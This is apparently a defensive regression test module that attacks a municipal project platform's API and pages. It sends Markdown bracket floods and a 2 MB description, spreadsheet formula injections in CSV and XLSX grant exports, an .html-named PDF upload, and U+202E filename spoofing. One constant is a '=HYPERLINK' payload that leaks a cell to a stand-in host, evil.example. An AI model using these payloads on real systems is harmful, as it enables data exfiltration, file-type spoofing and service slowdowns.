"""Attacks with content: Markdown (1), spreadsheet formulas (2), uploads and text (7)."""

import csv
import io
import re
import zipfile
from urllib.parse import unquote

from openpyxl import load_workbook

from bench.attacks import http
from bench.attacks.registry import Checks, Finding, attack
from bench.attacks.target import COORDINATOR, MINISTRY, OTHER_STAFF, STAFF, Target

# Now (bounded Markdown, stored HTML): a create in about a second, reads of
# stored HTML in milliseconds. The limits leave room for a loaded machine
# (2 shared cores) and are still far below the 26–44 s and 8–9 s.
CREATE_LIMIT_S = 5.0
READ_LIMIT_S = 2.0
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
RLO = "\u202e"


@attack(
    1,
    "Markdown: 9,000 and 20,000 '[' and 2 MB as a city's staff (API)",
    "9,000 '[': create 26 s, each detail read 8–9 s; 20,000 '[': 44 s (past gunicorn's "
    "30 s timeout); 2 MB accepted",
)
def markdown(target: Target) -> Finding:
    checks = Checks()
    api, page = target.api(STAFF), target.browser(STAFF)
    for count in (9_000, 20_000):
        data = {"title": f"Klammern {count} {target.run}", "summary": "x", "phase": "idee"}
        created = http.timed(
            "POST",
            f"{target.base}/api/v1/projects/",
            api,
            json={**data, "description": "[" * count},
        )
        status = created.response.status_code
        checks.expect(
            status in (201, 400) and created.seconds < CREATE_LIMIT_S,
            f"{count:,} '[': create {status} in {created.seconds:.2f} s",
        )
        if status != 201:
            continue
        slug = created.response.json()["slug"]
        reads = [http.timed("GET", f"{target.base}/api/v1/projects/{slug}/", api) for _ in range(3)]
        # the project's page, as its city sees the draft
        reads += [http.timed("GET", f"{target.base}/projekte/{slug}/", page) for _ in range(2)]
        slowest = max(read.seconds for read in reads)
        checks.expect(
            all(read.response.status_code == 200 for read in reads) and slowest < READ_LIMIT_S,
            f"3 API and 2 page reads: {slowest * 1000:.0f} ms at most",
        )
    big = http.timed(
        "POST",
        f"{target.base}/api/v1/projects/",
        api,
        json={
            "title": f"Zwei MB {target.run}",
            "summary": "x",
            "phase": "idee",
            "description": "a" * 2_000_000,
        },
    )
    refused = big.response.status_code == 400 and "description" in big.response.text
    checks.expect(
        refused,
        f"2 MB: {big.response.status_code} in {big.seconds:.2f} s"
        + (" (error at description)" if refused else ""),
    )
    return checks.finding()


def _live_formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_START)]


@attack(
    2,
    "Spreadsheet formulas: =HYPERLINK(...) and +RT-1 in the grants CSV and admin XLSX",
    "live formula in the grants CSV (/api/v1/grants/export/) and a formula cell in the "
    "admin's XLSX; +RT-1 not neutralised",
)
def spreadsheets(target: Target) -> Finding:
    from bench.attacks.target import record_grant

    checks = Checks()
    hyperlink = target.new_project(title=HYPERLINK)
    reference = target.new_project(title="+RT-1")
    for project in (hyperlink, reference):
        target.publish(project["slug"])
    grants = {
        record_grant(
            project_slugs=[hyperlink["slug"]],
            purpose=f"Formeln {target.run}",
            file_reference=f"+RT-1/{target.run}",  # unique across runs
        ),
        record_grant(
            project_slugs=[reference["slug"]],
            purpose=f"@SUM(1+1) {target.run}",
            file_reference=f"-1+1/{target.run}",
        ),
    }
    # CSV for the ministry
    answer = target.api(MINISTRY).get(f"{target.base}/api/v1/grants/export/", timeout=60)
    rows = [row for row in csv.reader(io.StringIO(answer.text)) if row and row[0].isdigit()]
    ours = [row for row in rows if int(row[0]) in grants]
    cells = [cell for row in ours for cell in row]
    checks.expect(len(ours) == 2, f"CSV {answer.status_code}, {len(ours)} of 2 grants")
    checks.expect(
        any(HYPERLINK in cell for cell in cells), "the title is in the CSV (the ministry sees it)"
    )
    live = _live_formulas(cells)
    checks.expect(not live, f"CSV: {len(live)} cells starting = + - @ (neutralised with ')")
    # XLSX of the admin, for the coordination
    admin = target.browser(COORDINATOR)
    answer = admin.get(f"{target.base}/admin/funding/grant/export/xlsx/", timeout=60)
    book = zipfile.ZipFile(io.BytesIO(answer.content))
    sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
    formulas = sum(len(re.findall(rb"<f[ >]", book.read(name))) for name in sheets)
    sheet = load_workbook(io.BytesIO(answer.content)).active
    texts, typed = [], []
    for row in sheet.iter_rows():
        if isinstance(row[0].value, int) and row[0].value in grants:
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    texts.append(cell.value)
                    typed.append(cell.data_type)
    checks.expect(
        formulas == 0 and bool(texts) and set(typed) == {"s"},
        f"XLSX {answer.status_code}: {formulas} formula elements, {len(texts)} payload cells "
        f"of type {'/'.join(sorted(set(typed))) or '-'} (s = text)",
    )
    return checks.finding()


# The smallest file that is a PDF by its content.
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _served_name(answer) -> str:
    """The file name a download is saved under (RFC 6266: filename* wins)."""
    disposition = answer.headers.get("Content-Disposition", "")
    if match := re.search(r"filename\*=utf-8''([^;]+)", disposition, re.I):
        return unquote(match.group(1))
    match = re.search(r'filename="([^"]*)"', disposition)
    return match.group(1) if match else ""


def _upload(target: Target, slug: str, name: str, title: str = "Bericht"):
    """Upload a PDF under ``name`` through the page; the download, if it was stored."""
    browser = target.browser(STAFF)
    form = browser.get(f"{target.base}/projekte/{slug}/dokumente/neu/", timeout=60)
    answer = browser.post(
        f"{target.base}/projekte/{slug}/dokumente/neu/",
        data={**http.form_tokens(form.text), "title": title},
        files={"file": (name, PDF, "text/html")},
        allow_redirects=False,
        timeout=60,
    )
    edit = browser.get(f"{target.base}/projekte/{slug}/bearbeiten/", timeout=60)
    ids = [int(pk) for pk in re.findall(rf"/projekte/{slug}/dokumente/(\d+)/", edit.text)]
    if answer.status_code != 302 or not ids:
        return answer.status_code, None
    download = browser.get(f"{target.base}/projekte/{slug}/dokumente/{max(ids)}/", timeout=60)
    return answer.status_code, download


def _published_project_not_of_landau() -> str:
    from projects.models import Project

    project = (
        Project.objects.filter(state=Project.State.PUBLISHED)
        .exclude(lead_municipality__slug="landau")
        .order_by("pk")
        .first()
    )
    if project is None:
        raise RuntimeError("the demo has no published project outside Landau")
    return project.slug


@attack(
    7,
    "Uploads and text: a PDF named evil.html, U+202E, adoption date 9999-12-31",
    "evil.html stored and downloaded as evil.html; U+202E accepted in titles, phone numbers "
    "and file names; adoption dates of 9999-12-31 accepted",
)
def uploads_and_text(target: Target) -> Finding:
    checks = Checks()
    slug = target.new_project(title=f"Dokumente {target.run}")["slug"]
    status, download = _upload(target, slug, "evil.html")
    if download is None:
        checks.expect(False, f"upload of evil.html: {status}, no document to download")
    else:
        served, kind = _served_name(download), download.headers.get("Content-Type", "")
        checks.expect(
            served == "evil.pdf" and kind == "application/pdf",
            f"evil.html (a PDF) served as {served}, {kind}",
        )
    # Django's multipart parser itself drops unprintable characters from file
    # names, so this one cannot fail through an upload; the document's title can.
    status, download = _upload(target, slug, f"rechnung{RLO}fdp.html")
    if download is None:
        checks.expect(status == 200, f"file name with U+202E: upload refused ({status})")
    else:
        checks.expect(
            RLO not in unquote(download.headers.get("Content-Disposition", "")),
            f"rechnung<U+202E>fdp.html served as {_served_name(download)}",
        )
    status, download = _upload(target, slug, "bericht.pdf", title=f"Bericht{RLO}fdp.exe")
    checks.expect(
        status == 200 and download is None,
        f"document title with U+202E: {status}"
        + (" (the form again, nothing stored)" if download is None else ", stored"),
    )
    api = target.api(STAFF)
    for name, value in (("title", f"Titel{RLO}gpj.exe"), ("contact_phone", f"0621{RLO}123")):
        data = {"title": f"Bidi {target.run}", "summary": "x", "phase": "idee", name: value}
        answer = api.post(f"{target.base}/api/v1/projects/", json=data, timeout=60)
        checks.expect(
            answer.status_code == 400 and name in answer.json(),
            f"U+202E in {name}: {answer.status_code}",
        )
    answer = target.api(OTHER_STAFF).post(
        f"{target.base}/api/v1/adoptions/",
        json={
            "project": _published_project_not_of_landau(),
            "status": "in_umsetzung",
            "started_on": "9999-12-31",
        },
        timeout=60,
    )
    checks.expect(
        answer.status_code == 400 and "started_on" in answer.text,
        f"adoption started 9999-12-31: {answer.status_code}",
    )
    return checks.finding()
